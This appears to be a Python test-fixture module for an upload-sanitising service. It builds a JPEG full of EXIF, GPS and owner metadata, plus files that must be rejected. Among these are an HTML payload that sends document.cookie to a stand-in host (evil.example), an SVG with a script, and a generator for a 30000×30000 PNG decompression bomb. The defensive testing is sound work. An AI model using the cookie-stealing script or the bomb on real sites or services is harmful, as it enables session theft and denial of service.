"""Uploads for the media tests: a real phone-like JPEG carrying EXIF GPS, the camera owner's name,
XMP, an ICC profile and a comment; and the files that must be refused (an SVG with a script, HTML
named and typed as a JPEG, a 30000×30000 PNG decompression bomb of a few hundred KB, a truncated
JPEG). Shared by the Telegram, WhatsApp and terminal tests."""
from __future__ import annotations

import io
import struct
import zlib
from functools import lru_cache

from PIL import ExifTags, Image, ImageCms

OWNER = "Ayşe Yılmaz"                          # in the XMP packet and the comment (UTF-8)
OWNER_ASCII = "Ayse Yilmaz"                    # in EXIF, whose text is ASCII
SERIAL = "SN-4711-BUCA"
CAMERA = "Pixel 8 Pro"
GPS_LAT = (38.0, 23.0, 6.96)             # 38°23'6.96" N: Buca
GPS_LON = (27.0, 10.0, 31.08)            # 27°10'31.08" E
# What must not survive in any stored byte (the names as UTF-8, and the GPS reference letters'
# neighbours are checked through Pillow instead).
SECRETS = (OWNER.encode(), OWNER_ASCII.encode(), SERIAL.encode(), CAMERA.encode(), b"Exif\x00\x00",
           b"http://ns.adobe.com/xap", b"ICC_PROFILE")

SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>fetch("/open311/v2/requests.json").then(r=>r.text()).then(alert)</script>'
       b'<rect width="10" height="10"/></svg>')
HTML = b"<!doctype html><html><body><script>document.location='https://evil.example/?c='+document.cookie" \
       b"</script></body></html>"


def stored_as(data: bytes, kind: str = "photo") -> tuple[str, bytes]:
    """The file name and bytes an upload is stored as in MEDIA_DIR (cleaned, then content-addressed)."""
    from storage import media

    cleaned = media.clean(kind, data)
    return media.path_for("", cleaned.data, cleaned.suffix).name, cleaned.data


def plain_jpeg(width: int = 64, height: int = 48, colour: tuple[int, int, int] = (200, 120, 40)) -> bytes:
    """A small real JPEG without metadata."""
    image = Image.new("RGB", (width, height), colour)
    for x in range(width):
        image.putpixel((x, x * height // width), (20, 20, 20))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90)
    return out.getvalue()


@lru_cache(maxsize=None)
def exif_jpeg() -> bytes:
    """A 120×80 JPEG as a phone writes it: EXIF with the camera make and model, the owner's name
    (Artist, CameraOwnerName), GPS coordinates, orientation 6 (to be shown turned 90° clockwise),
    an XMP packet naming the owner, an sRGB ICC profile and a comment."""
    image = Image.new("RGB", (120, 80), (30, 90, 160))
    for x in range(0, 30):
        for y in range(0, 20):
            image.putpixel((x, y), (250, 10, 10))     # a red patch at the stored top-left corner
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Google"
    exif[ExifTags.Base.Model] = CAMERA
    exif[ExifTags.Base.Artist] = OWNER_ASCII
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.IFD.Exif] = {ExifTags.Base.CameraOwnerName: OWNER_ASCII, ExifTags.Base.BodySerialNumber: SERIAL}
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: GPS_LAT,
                                  ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: GPS_LON}
    xmp = (f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/">'
           f'<dc:creator>{OWNER}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>').encode()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(out, "JPEG", quality=92, exif=exif.tobytes(), xmp=xmp, icc_profile=icc,
               comment=f"{OWNER}'s phone".encode())
    data = out.getvalue()
    assert all(secret in data for secret in SECRETS)            # the metadata is really there
    return data


def metadata_bytes(data: bytes) -> int:
    """How many bytes of a JPEG are metadata segments (APP1..APP15: EXIF, XMP, ICC...; COM)."""
    total, at = 0, 2
    while at + 4 <= len(data) and data[at] == 0xFF:
        marker = data[at + 1]
        if marker == 0xDA:  # start of scan: the image data follows
            break
        length = struct.unpack(">H", data[at + 2:at + 4])[0]
        if 0xE1 <= marker <= 0xEF or marker == 0xFE:
            total += 2 + length
        at += 2 + length
    return total


def truncated_jpeg() -> bytes:
    """A real JPEG cut off half-way through its image data."""
    data = plain_jpeg(320, 240)
    return data[: len(data) // 2]


@lru_cache(maxsize=None)
def bomb_png(side: int = 30000) -> bytes:
    """A side×side one-colour black-and-white PNG (900 megapixels at 30000), written with zlib
    directly (Pillow would have to hold the pixels): about a hundred kilobytes on disk."""
    row = b"\x00" * (1 + (side + 7) // 8)              # filter byte + one bit per pixel
    compressor = zlib.compressobj(9)
    block = row * 500
    parts = [compressor.compress(block) for _ in range(side // 500)]
    parts.append(compressor.compress(row * (side % 500)))
    parts.append(compressor.flush())
    idat = b"".join(parts)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # bit depth 1, greyscale
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def refused_uploads() -> dict[str, tuple[bytes, str, str]]:
    """name → (bytes, the content type the sender claims, the file name it gives) of every upload
    that must be refused, with the refusal's message key."""
    return {
        "svg": (SVG, "image/svg+xml", "harita.svg"),
        "html_as_jpeg": (HTML, "image/jpeg", "foto.jpg"),
        "bomb_png": (bomb_png(), "image/png", "cukur.png"),
        "truncated_jpeg": (truncated_jpeg(), "image/jpeg", "yarim.jpg"),
    }


REFUSAL_KEYS = {"svg": "media.not_a_photo", "html_as_jpeg": "media.not_a_photo",
                "bomb_png": "media.too_many_pixels", "truncated_jpeg": "media.not_a_photo"}


def assert_clean_photo(path) -> Image.Image:
    """The stored file decodes, as a JPEG, and carries no metadata at all."""
    data = path.read_bytes()
    for secret in SECRETS:
        assert secret not in data, f"{secret!r} survived in {path.name}"
    with Image.open(path) as image:
        image.load()
        assert image.format == "JPEG"
        assert not image.getexif(), dict(image.getexif())
        assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        for key in ("exif", "icc_profile", "xmp", "comment", "photoshop"):
            assert key not in image.info, key
        assert metadata_bytes(data) == 0
        return image.copy()
